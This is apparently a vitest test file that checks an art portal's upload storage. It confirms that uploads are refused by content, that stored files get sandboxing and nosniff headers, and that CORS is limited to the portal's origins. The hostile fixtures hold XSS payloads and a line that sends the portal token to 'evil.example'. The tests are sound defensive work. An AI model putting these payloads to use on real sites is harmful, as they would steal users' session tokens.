import { mkdir, writeFile } from 'node:fs/promises';
import { dirname, join } from 'node:path';
import type { ApiClient, UploadSign } from '@art-portal/api-client';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { bucketPaths } from '../src/storage/registerStorage';
import { startTestServer, type TestServer } from './startTestServer';
import { acceptedFiles, postFile } from './storageForms';

let server: TestServer;
let api: ApiClient;
let sign: UploadSign;

const refusedType = '不支持的文件格式，仅支持 JPG、PNG、WebP、GIF、MP4、PDF 格式';
const pictureCsp = "default-src 'none'; sandbox";
const videoCsp = "default-src 'none'; media-src 'self'; sandbox allow-same-origin";

beforeAll(async () => {
  server = await startTestServer({ CORS_ORIGINS: 'https://partner.example' });
  api = await server.ready(await server.tokenFor('13800000003'));
  sign = await api.upload.getSign();
});
afterAll(() => server?.close());

const hostile = [
  {
    name: 'x.html',
    type: 'text/html',
    text: '<!doctype html><script>alert(localStorage.getItem("art-portal-token"))</script>',
  },
  {
    name: 'x.svg',
    type: 'image/svg+xml',
    text: '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
  },
  {
    name: 'x.js',
    type: 'application/javascript',
    text: 'fetch("//evil.example/?t="+localStorage.getItem("art-portal-token"))',
  },
  { name: 'x.png', type: 'image/png', text: '<html><script>alert(1)</script></html>' },
  { name: 'x.jpg', type: 'image/jpeg', text: '\u00ff\u00d8<script>alert(1)</script>' },
  { name: 'x.txt', type: 'text/plain', text: '' },
];

describe('what the storage host accepts', () => {
  it.each(hostile)(
    'refuses $name ($type) by its content, and stores nothing',
    async ({ name, type, text }) => {
      const key = `${sign.dir}${name}`;
      const answer = await postFile(sign, key, Buffer.from(text, 'latin1'), { type });
      expect(answer.status).toBe(415);
      expect(JSON.parse(answer.body)).toEqual({ code: 415, msg: refusedType });
      expect((await fetch(`${sign.host}/${key}`)).status).toBe(404);
    },
  );

  it('stores JPG, PNG, WebP, GIF, MP4 and PDF whatever their name, and serves each as its content', async () => {
    for (const file of await acceptedFiles()) {
      const key = `${sign.dir}misnamed-${file.extension}.html`;
      expect((await postFile(sign, key, file.bytes, { type: 'text/html' })).status, file.type).toBe(200);
      const served = await fetch(`${sign.host}/${key}`);
      expect(served.status).toBe(200);
      expect(served.headers.get('content-type'), file.type).toBe(file.type);
      expect(Buffer.from(await served.arrayBuffer()).equals(file.bytes)).toBe(true);
    }
  });
});

describe('how stored files are served', () => {
  it('sends pictures and videos inline in a sandbox, and anything else as a download', async () => {
    const headersOf = async (url: string) => (await fetch(url)).headers;
    for (const file of await acceptedFiles()) {
      const url = await api.upload.uploadFile(new Blob([new Uint8Array(file.bytes)], { type: file.type }), {
        fileName: `a.${file.extension}`,
      });
      const headers = await headersOf(url);
      expect(headers.get('x-content-type-options')).toBe('nosniff');
      if (file.type.startsWith('image/')) {
        expect(headers.get('content-security-policy'), file.type).toBe(pictureCsp);
        expect(headers.get('content-disposition'), file.type).toBeNull();
      } else if (file.type.startsWith('video/')) {
        expect(headers.get('content-security-policy')).toBe(videoCsp);
        expect(headers.get('content-disposition')).toBeNull();
      } else {
        expect(headers.get('content-security-policy')).toBe(pictureCsp);
        expect(headers.get('content-disposition')).toBe('attachment');
      }
      if (file.type === 'image/png') {
        const styled = await headersOf(`${url}?x-oss-process=style/thumbnail`);
        expect(styled.get('content-type')).toBe('image/png');
        expect(styled.get('content-security-policy')).toBe(pictureCsp);
        expect(styled.get('x-content-type-options')).toBe('nosniff');
      }
    }
  });

  it('serves a file already in the bucket that is neither picture nor video as an opaque download', async () => {
    const { objects } = bucketPaths(server.config.dataDir);
    const key = 'uploads/legacy/1/page.html';
    await mkdir(dirname(join(objects, key)), { recursive: true });
    await writeFile(join(objects, key), '<!doctype html><script>alert(document.domain)</script>');
    const response = await fetch(`${server.origin}/storage/${key}`);
    expect(response.status).toBe(200);
    expect(response.headers.get('content-type')).toBe('application/octet-stream');
    expect(response.headers.get('content-disposition')).toBe('attachment');
    expect(response.headers.get('content-security-policy')).toBe(pictureCsp);
    expect(response.headers.get('x-content-type-options')).toBe('nosniff');
  });

  it('serves the seeded course clips as video', async () => {
    const [course] = (await api.courses.list({ pageNum: 1, pageSize: 1 })).rows;
    if (!course) throw new Error('no course');
    const detail = await api.courses.get({ id: course.id });
    const response = await fetch(new URL(detail.videoUrl, server.origin));
    expect(response.headers.get('content-type')).toBe('video/webm');
    expect(response.headers.get('content-security-policy')).toBe(videoCsp);
    const range = await fetch(new URL(detail.videoUrl, server.origin), { headers: { range: 'bytes=0-99' } });
    expect(range.status).toBe(206);
    expect(range.headers.get('content-type')).toBe('video/webm');
  });
});

describe('storage and other origins', () => {
  const seedKey = async () => {
    const [work] = (await api.artworks.list({ pageNum: 1, pageSize: 1 })).rows;
    if (!work) throw new Error('no artwork');
    return new URL(work.cover, server.origin).href;
  };

  it("answers the portal's origins without credentials and no other origin", async () => {
    const url = await seedKey();
    for (const origin of [server.origin, 'https://partner.example']) {
      const response = await fetch(url, { headers: { origin } });
      expect(response.headers.get('access-control-allow-origin'), origin).toBe(origin);
      expect(response.headers.get('access-control-allow-credentials'), origin).toBeNull();
      expect((response.headers.get('vary') ?? '').toLowerCase()).toContain('origin');
    }
    for (const origin of ['https://evil.example', 'null']) {
      const response = await fetch(url, { headers: { origin } });
      expect(response.status).toBe(200);
      expect(response.headers.get('access-control-allow-origin'), origin).toBeNull();
      expect(response.headers.get('access-control-allow-credentials'), origin).toBeNull();
    }
  });

  it('lets only the portal preflight and read an upload, without credentials', async () => {
    const preflight = (origin: string) =>
      fetch(`${server.origin}/storage`, {
        method: 'OPTIONS',
        headers: {
          origin,
          'access-control-request-method': 'POST',
          'access-control-request-headers': 'content-type',
        },
      });
    const allowed = await preflight(server.origin);
    expect(allowed.status).toBe(204);
    expect(allowed.headers.get('access-control-allow-origin')).toBe(server.origin);
    expect(allowed.headers.get('access-control-allow-credentials')).toBeNull();
    expect(allowed.headers.get('access-control-allow-methods')).toBe('POST, GET');
    expect(allowed.headers.get('access-control-allow-headers')).toBe('*');
    const foreign = await preflight('https://evil.example');
    expect(foreign.headers.get('access-control-allow-origin')).toBeNull();
    expect(foreign.headers.get('access-control-allow-credentials')).toBeNull();

    const [png] = (await acceptedFiles()).filter((file) => file.type === 'image/png');
    if (!png) throw new Error('no png');
    const fromEvil = await postFile(sign, `${sign.dir}cors.png`, png.bytes, {
      headers: { origin: 'https://evil.example' },
    });
    expect(fromEvil.headers.get('access-control-allow-origin')).toBeNull();
    const fromPortal = await postFile(sign, `${sign.dir}cors2.png`, png.bytes, {
      headers: { origin: server.origin },
    });
    expect(fromPortal.headers.get('access-control-allow-origin')).toBe(server.origin);
    expect(fromPortal.headers.get('access-control-allow-credentials')).toBeNull();
  });
});
